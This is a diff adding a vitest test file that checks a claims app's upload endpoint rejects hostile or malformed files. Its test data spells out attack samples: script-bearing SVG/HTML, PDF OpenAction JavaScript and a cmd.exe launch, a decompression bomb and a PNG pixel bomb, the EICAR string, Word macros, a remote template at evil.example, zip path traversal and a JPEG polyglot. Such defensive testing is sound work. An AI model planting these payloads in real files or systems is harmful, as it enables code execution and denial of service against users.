@@ -1,0 +1,247 @@
+import { crc32, deflateSync } from 'node:zlib';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startDraft } from '#test/builders/intake.ts';
+import type { Draft } from '#test/builders/intake.ts';
+import { person } from '#test/builders/person.ts';
+import type { Person } from '#test/builders/person.ts';
+import { doc, docx, pdf, picture, upload, zip } from '#test/builders/upload.ts';
+import type { TestApp } from '#test/setup/test-app.ts';
+import { startTestApp } from '#test/setup/test-app.ts';
+
+let t: TestApp;
+let claimant: Person;
+let stranger: Person;
+let draft: Draft;
+
+beforeAll(async () => {
+  t = await startTestApp();
+  [claimant, stranger] = await Promise.all([person(t, 'claimant'), person(t, 'claimant')]);
+  draft = await startDraft(t, claimant);
+});
+afterAll(() => t.close());
+
+const send = (filename: string, content: Buffer | string) =>
+  upload(t, '/v1/files/upload', claimant.token, { entityId: draft.id, documentType: 'other' }, [{ filename, content }]);
+
+const objectStream = (inner: string) => {
+  const packed = deflateSync(Buffer.from(inner, 'latin1')).toString('latin1');
+  return `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj`;
+};
+const script = '/S /JavaScript /JS (app.alert\\(1\\))';
+const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
+const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+const external = (type: string) =>
+  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
+
+async function jpegWithTail(tail: string): Promise<Buffer> {
+  return Buffer.concat([await picture('jpeg', 3), Buffer.from(tail)]);
+}
+
+describe('what is refused', () => {
+  it.each<[string, string, () => Buffer | string | Promise<Buffer | string>, number, string]>([
+    ['SVG named .png', 'photo.png', () => svg, 415, 'File type not supported'],
+    ['HTML named .jpg', 'photo.jpg', () => '<!doctype html><script>alert(1)</script>', 415, 'File type not supported'],
+    ['a program', 'setup.pdf', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600)]), 415, 'File type not supported'],
+    ['plain text', 'note.doc', () => 'just text', 415, 'File type not supported'],
+    ['a ZIP', 'files.zip', () => zip({ 'a.txt': 'a' }), 415, 'File type not supported'],
+    [
+      'an Excel file of the old kind',
+      'sheet.doc',
+      () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
+      415,
+      'File type not supported',
+    ],
+    ['nothing', 'empty.pdf', () => '', 400, 'This file is empty'],
+    [
+      'the virus scanner’s test string',
+      'eicar.pdf',
+      () => eicar,
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'the test string inside a PDF',
+      'eicar2.pdf',
+      () => pdf('', eicar),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF with script',
+      'a.pdf',
+      () => pdf(`/OpenAction << ${script} >>`),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF with an escaped name',
+      'b.pdf',
+      () => pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF that starts a program',
+      'c.pdf',
+      () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF with a file inside',
+      'd.pdf',
+      () => pdf('/Names << /EmbeddedFiles 4 0 R >>'),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF with script in an object stream',
+      'e.pdf',
+      () => pdf('', objectStream(`4 0 << ${script} >>`)),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF whose object stream is a bomb',
+      'f.pdf',
+      () => pdf('', objectStream(' '.repeat(60_000_000))),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF with page actions',
+      'g.pdf',
+      () => pdf('/AA << /WC 4 0 R >>'),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'PDF with a password',
+      'h.pdf',
+      () => pdf('', '9 0 obj\n<< /Encrypt 8 0 R >>\nendobj'),
+      400,
+      'This file is protected by a password. Please upload it without one.',
+    ],
+    [
+      'a PDF’s first line and nothing else',
+      'i.pdf',
+      () => '%PDF-1.7 and anything',
+      400,
+      'This file is damaged or cannot be read',
+    ],
+    [
+      'half a photo',
+      'half.jpg',
+      async () => (await bigPhoto()).subarray(0, 20_000),
+      400,
+      'This file is damaged or cannot be read',
+    ],
+    ['a picture that unpacks to 10 gigapixels', 'bomb.png', () => pngBomb(), 400, 'This file is damaged or cannot be read'],
+    [
+      'Word with macros',
+      'm.docx',
+      () => docx({ 'word/vbaProject.bin': 'x' }),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'Word with an embedded object',
+      'o.docx',
+      () => docx({ 'word/embeddings/oleObject1.bin': 'x' }),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'Word with a template from elsewhere',
+      't.docx',
+      () => docx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'Word with a path out of the archive',
+      'p.docx',
+      () => docx({ '../../evil.xml': 'x' }),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+    [
+      'old Word with macros',
+      'm.doc',
+      () => doc('_VBA_PROJECT'),
+      400,
+      'This file contains active or harmful content and cannot be accepted',
+    ],
+  ])('%s', async (_what, name, content, status, text) => {
+    const refused = await send(name, await content());
+    expect([refused.status, refused.body.message]).toEqual([status, text]);
+    const listed = await t.call('GET', `/v1/files?entityType=claim&entityId=${draft.id}`, { token: claimant.token });
+    expect(listed.body.data).toEqual([]);
+  });
+
+  it('says it in the words for KYC there', async () => {
+    const refused = await upload(t, '/v1/files/upload/single', claimant.token, {}, [{ filename: 'a.svg', content: svg }]);
+    expect(refused.body.message).toBe('File type not supported. Please upload JPEG, PNG, GIF, PDF or Word files.');
+  });
+
+  it('a picture with a page behind it loses the page', async () => {
+    const sent = await send('polyglot.jpg', await jpegWithTail('<script>alert(1)</script>'));
+    const { rawPayload } = (await t.call('GET', sent.body.data.url.replace('/api', ''), { token: claimant.token })).response;
+    expect(rawPayload.includes('<script>')).toBe(false);
+    await t.call('DELETE', `/v1/files/${sent.body.data.id}`, { token: claimant.token });
+  });
+
+  it('takes exactly 10 MB and not a byte more', async () => {
+    const padded = (size: number) => {
+      const bare = pdf();
+      return Buffer.concat([
+        Buffer.from('%PDF-1.4\n'),
+        Buffer.from(`%${' '.repeat(size - bare.length - 2)}\n`),
+        bare.subarray(9),
+      ]);
+    };
+    expect(padded(10_485_760)).toHaveLength(10_485_760);
+    const fits = await send('exact.pdf', padded(10_485_760));
+    expect(fits.status).toBe(201);
+    await t.call('DELETE', `/v1/files/${fits.body.data.id}`, { token: claimant.token });
+    const over = await send('over.pdf', padded(10_485_761));
+    expect([over.status, over.body.message]).toEqual([413, 'File size must be less than 10MB']);
+  });
+
+  it('a body without a file, and one that is no form', async () => {
+    const none = await upload(t, '/v1/files/upload', claimant.token, { entityId: draft.id }, []);
+    expect([none.status, none.body.message]).toEqual([400, 'Please choose a file']);
+    const json = await t.call('POST', '/v1/files/upload', { token: claimant.token, body: {} });
+    expect(json.status).toBe(415);
+  });
+
+  it('unknown categories and other people’s claims', async () => {
+    const file = { filename: 'a.png', content: await picture('png') };
+    expect((await upload(t, '/v1/files/upload', claimant.token, { entityId: draft.id, category: 'SECRET' }, [file])).status).toBe(
+      400,
+    );
+    expect(
+      (await upload(t, '/v1/files/upload', claimant.token, { entityId: draft.id, category: 'INSURER_PROOF' }, [file])).status,
+    ).toBe(403);
+    expect((await upload(t, '/v1/files/upload', stranger.token, { entityId: draft.id }, [file])).status).toBe(404);
+    expect((await upload(t, `/claims/${draft.id}/documents`, stranger.token, {}, [file])).status).toBe(404);
+  });
+});
+
+async function bigPhoto(): Promise<Buffer> {
+  return sharp({
+    create: { width: 800, height: 800, channels: 3, background: '#888888', noise: { type: 'gaussian', mean: 128, sigma: 60 } },
+  })
+    .jpeg()
+    .toBuffer();
+}
+
+/** A PNG whose header promises 100,000 × 100,000 pixels. */
+async function pngBomb(): Promise<Buffer> {
+  const small = await picture('png');
+  small.writeUInt32BE(100_000, 16);
+  small.writeUInt32BE(100_000, 20);
+  small.writeUInt32BE(crc32(small.subarray(12, 29)), 29);
+  return small;
+}
